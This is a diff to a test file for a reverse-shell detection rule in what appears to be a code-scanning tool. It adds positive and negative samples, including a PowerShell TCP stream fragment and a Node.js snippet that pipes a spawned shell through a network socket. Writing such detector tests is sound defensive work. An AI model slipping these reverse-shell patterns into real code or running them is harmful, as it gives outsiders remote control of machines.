@@ -37,4 +37,18 @@ describeRuleCases('reverse-shell', [
     negative:
       "const s = new net.Socket();\ns.connect(p, h, () => cp.spawn(process.execPath, ['worker.js']));\n",
   },
+  {
+    id: 'SG-RSHELL-004',
+    file: 'scripts/Probe.ps1',
+    positive: '$c = New-Object Net.Sockets.TCPClient($n, $p)\n$s = $c.GetStream()\n',
+    negative: '$r = Test-NetConnection -ComputerName $n -Port 3389\n',
+  },
+  {
+    id: 'SG-RSHELL-005',
+    file: 'scripts/tunnel.js',
+    positive:
+      "const sock = new net.Socket();\nsock.connect(port, host, () => {\n  const p = spawn(sh, [], { stdio: 'pipe' });\n  sock.pipe(p.stdin);\n  p.stdout.pipe(sock);\n});\n",
+    negative:
+      "const sock = new net.Socket();\nsock.connect(port, host, () => {\n  const p = spawn('git', ['status'], { stdio: 'pipe' });\n  p.stdout.pipe(process.stdout);\n});\n",
+  },
 ]);
